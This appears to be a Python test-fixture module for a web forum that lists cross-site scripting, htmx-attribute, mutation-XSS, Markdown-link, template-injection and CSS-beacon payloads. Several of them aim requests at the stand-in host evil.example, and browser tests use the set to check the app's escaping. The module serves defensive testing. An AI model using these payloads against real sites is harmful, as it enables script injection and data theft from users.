"""Words that would do harm where they are taken for anything but words: in Markdown, HTML, scripts and styles.

Whatever of it runs sets ``window.tripped``, opens a dialog, or asks another host, which a browser in a test sees.
"""

import re
from dataclasses import dataclass, field
from itertools import count

from tests.kit.payloads import PAYLOADS

TRIP = "window.tripped=(window.tripped||[]).concat(1)"
OTHER = "https://evil.example"
# Bytes that are no writing are refused where they come in, which has tests of its own.
REFUSED = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")

# One line, at most 60 characters: titles, names, options, reasons. No controls, since they are refused.
LINES = [
    '"><img src=x onerror=tripped=1>',
    "<script>window.tripped=1</script>",
    "</title><script>tripped=1</script>",
    "</textarea><svg onload=tripped=1>",
    "' autofocus onfocus='tripped=1' x='",
    '" onmouseover="tripped=1" hx-get="//evil.example',
    "<b hx-trigger=load hx-get=//evil.example>x</b>",
    "<p hx-on::load='tripped=1' data-hx-on:load='tripped=1'>",
    "<i data-for=tends data-own=x data-react>x</i>",
    "<form data-stays action=//evil.example>",
    "<ul data-posts=//evil.example/live/ data-may=tends>",
    "<details class=menu open ontoggle=tripped=1>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "{{ constructor.constructor('tripped=1')() }}",
    "{% raw %}${tripped=1}<%= tripped=1 %>#{tripped=1}",
    "%(count)s %s {0} {name} {number} %n",
    "$& $1 $` $' $<name>",
    "javascript:tripped=1",
    "<mark>a</mark> \ue000b\ue001 c",
    "&lt;script&gt;tripped=1&lt;/script&gt;",
    "&#x22;&#62;&#60;svg/onload&#61;tripped&#61;1&#62;",
    "<math><mi xlink:href=javascript:tripped=1>",
    "<svg><style><img src=x onerror=tripped=1>",
    "<noscript><p title='</noscript><svg onload=tripped=1>'>",
    "<!--><svg onload=tripped=1>-->",
    "]]><svg onload=tripped=1><![CDATA[",
    '=HYPERLINK("//evil.example")',
    "@everyone @stewards @[<svg onload=tripped=1>]",
    "א ב \u200fabc\u200f <svg onload=tripped=1>",
    "Z" + "\u0301" * 40,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 4,
    "W" * 60,
    "\uff1csvg onload=tripped=1\uff1e x",
    "\\\" \\' \\u003csvg onload=tripped=1\\u003e",
    "`</code><svg onload=tripped=1>`",
]

# Words without spaces: parts of addresses, tags, names of files.
WORDS = [
    "a'onerror='tripped=1",
    'b"onerror="tripped=1',
    "<svg/onload=tripped=1>",
    "%3Csvg%20onload=tripped=1%3E",
    "javascript:tripped=1",
    "x:y=z&amp;q=<b>",
    "{{7*7}}${7*7}",
    "..#?hx-get=x",
    "ﬀ\u0130ß",
    "data:text/html,<b>",
]

OWN_ATTRIBUTES = [
    f'<div hx-get="{OTHER}" hx-trigger="load">a</div>',
    f'<div data-hx-get="{OTHER}" data-hx-trigger="load">a</div>',
    f"<div hx-on:click='{TRIP}' hx-on::after-request='{TRIP}'>a</div>",
    f"<div hx-vals='js:{{a: {TRIP}}}' hx-trigger='load' hx-post='/inside/'>a</div>",
    f'<meta name="htmx-config" content=\'{{"selfRequestsOnly": false}}\'><a hx-boost=true href={OTHER}>a</a>',
    f'<ul data-posts="{OTHER}/live/" data-me="1" data-may="tends" data-after="0" data-read="{OTHER}">a</ul>',
    f'<form data-stays action="{OTHER}"><textarea></textarea></form>',
    f'<form data-upload action="{OTHER}"><input type=file></form>',
    f'<div data-editor data-draft="{OTHER}" data-people="{OTHER}" data-preview><textarea></textarea></div>',
    f'<button data-react data-react-to="{OTHER}" data-quote="{OTHER}" data-copy="x">a</button>',
    '<p data-for="author others tends" data-own="x" data-focus data-live="/live/" data-bell data-keys>a</p>',
    "<li class=post id=p1 data-author=1><b class=post-author>Owner</b></li>",
    "<p id=act><input name=csrfmiddlewaretoken value=x></p><p id=posts-voice data-says='{name}'></p>",
    "<p id=posts-below><button>x</button></p><p id=new></p><p id=main></p><time datetime=x>a</time>",
    "<details class=menu open><summary>a</summary><form method=post action=/sign-out/></form></details>",
    f"<select data-own-zone></select><form data-passkey data-push action={OTHER}>a</form>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={TRIP}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={TRIP}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={TRIP}>",
    f"<noscript><style></noscript><img src=x onerror={TRIP}>",
    f"<p title='`-->&gt;</noscript></style></title></textarea><img src=x onerror={TRIP}>'>a</p>",
    f"<select><template><script>{TRIP}</script></template></select><option><svg onload={TRIP}>",
    f"<a href='java&#9;script:{TRIP}'>a</a><a href='&#1;javascript:{TRIP}'>a</a>",
    f"<img src=x:x onerror&#61;{TRIP}><img/src/onerror={TRIP}><img\nsrc=x\nonerror={TRIP}>",
]

TRICKS = [
    f"[a](javascript&colon;{TRIP})",
    f"[a](java&#x0A;script:{TRIP})",
    f"[a](&#1;javascript:{TRIP})",
    "[a](data:text/html;base64,PHNjcmlwdD50cmlwcGVkPTE8L3NjcmlwdD4=)",
    f"[a](vbscript:{TRIP}) [b](blob:{OTHER}) [c](filesystem:{OTHER}) [d](view-source:{OTHER})",
    "[a](//evil.example) [b](\\\\evil.example) [c](/\\evil.example) [d](https:evil.example)",
    f"![a]({OTHER}/pixel.png) ![b](//evil.example/p.png) ![c](data:image/svg+xml,<svg/onload={TRIP}>)",
    f'![a](/files/x/y.png"onload={TRIP}) [![b]({OTHER}/p)]({OTHER})',
    f"<{OTHER}/\"onmouseover={TRIP}> {OTHER}/'onmouseover={TRIP} www.evil.example/\u202egpj.exe",
    f"[a]: {OTHER} '\"onmouseover={TRIP}'\n\n[a] [a][] ![a][a]",
    f'||<svg onload={TRIP}>|| ||" open ontoggle={TRIP}|| ||[a](javascript:{TRIP})||',
    f'@<svg/onload={TRIP}> @["onmouseover={TRIP}] @[<img src=x onerror={TRIP}>]',
    f"> [<svg onload={TRIP}> #1](/inside/topics/1/1/):\n>\n> <script>{TRIP}</script>",
    f'```html"onmouseover={TRIP}\n</code></pre><svg onload={TRIP}>\n```',
    f'- [ ] <svg onload={TRIP}>\n- [x] "onclick={TRIP}\n\n# <svg onload={TRIP}>\n\n|<svg onload={TRIP}>|\n|-|\n',
    "> " * 15 + "deep",
    "- " * 8 + "deep",
    "*" * 300 + "a",
    "[" * 300 + "a" + "](x)" * 300,
    "\u202e\u2066 reversed \u2069 " + "a\u200b\u200c\u200d\ufeffb" + "e" + "\u0301" * 300,
    "#" * 7 + "\n\n" + "1" * 400 + "\n\n" + "\U0001f468\u200d" * 60,
    f"<style>*{{background:url({OTHER}/css)}}</style><link rel=stylesheet href={OTHER}/a.css>",
    f'<p style="background:url({OTHER}/css)">a</p><table background={OTHER}/bg><td>a</table>',
]
TEXTS = [*OWN_ATTRIBUTES, *MUTATIONS, *TRICKS]
# All of it, for the pages on which posts stand.
EVERYTHING = [
    *TEXTS,
    *(each.replace("alert(1)", TRIP) for each in PAYLOADS if not REFUSED.search(each)),
]


@dataclass
class Hostile:
    """Gives hostile words, one after the other, so that each stands in many places."""

    turn: "count[int]" = field(default_factory=count)

    def word(self, what: str) -> str:
        """Give what may stand in an address of a mail, too; the rest is in lines."""
        return f"{''.join(each for each in what if each.isalnum())}{next(self.turn)}"

    def line(self, what: str) -> str:
        # No two names are alike, and what is asked for in a ritual is asked for by name.
        turn = next(self.turn)
        return f"{LINES[turn % len(LINES)][:60]}{' {n}' if '{n}' in what else ''}"

    def text(self, what: str) -> str:
        return TEXTS[next(self.turn) % len(TEXTS)]
